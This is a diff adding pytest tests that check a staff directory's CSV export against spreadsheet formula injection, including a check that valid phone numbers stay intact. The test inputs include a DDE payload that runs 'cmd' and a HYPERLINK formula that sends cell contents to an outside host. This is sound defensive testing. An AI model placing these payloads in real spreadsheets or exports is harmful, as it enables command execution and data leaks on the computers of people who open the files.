@@ -68,3 +68,34 @@ def test_the_response_streams_chunk_by_chunk(client, directory, user, monkeypatc
     assert len(lines) == 1 + PEOPLE
     mobile = lines[0].index("Mobile phone")
     assert {line[mobile] for line in lines[1:]} == {""}  # private, and the viewer is neither owner nor admin
+
+
+@pytest.mark.parametrize("formula", ['=HYPERLINK("//e.io/"&A2)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"])
+def test_no_cell_of_the_export_starts_a_formula(client, staff_user, formula):
+    """Whatever a column holds, typed by its owner or copied by the directory sync (which
+    does not check phone numbers: Active Directory lets people edit their own), a
+    spreadsheet reads text, never a formula."""
+    from apps.profiles.views import EXPORT_COLUMNS
+
+    manager = ProfileFactory(user=UserFactory(first_name=formula, last_name=formula))
+    ProfileFactory(
+        user=UserFactory(first_name="Plain", last_name="Person"),
+        manager=manager,
+        **dict.fromkeys(("display_name", "job_title", "department", "team", "location"), formula),
+        phone_work=formula,
+        phone_mobile=formula,
+    )
+    client.force_login(staff_user)  # an admin: private columns are filled in too
+    content = b"".join(client.get("/people/export.csv").streaming_content).decode()
+    lines = list(csv.reader(io.StringIO(content)))
+    assert len(lines[0]) == len(EXPORT_COLUMNS)
+    cells = [cell for line in lines[1:] for cell in line]
+    assert formula in {cell.lstrip("'") for cell in cells}
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]
+
+
+def test_a_valid_phone_number_is_exported_as_written(client, staff_user):
+    ProfileFactory(phone_work="+33 1 23 45 67 89")
+    client.force_login(staff_user)
+    content = b"".join(client.get("/people/export.csv").streaming_content).decode()
+    assert "+33 1 23 45 67 89" in content and "'+33" not in content
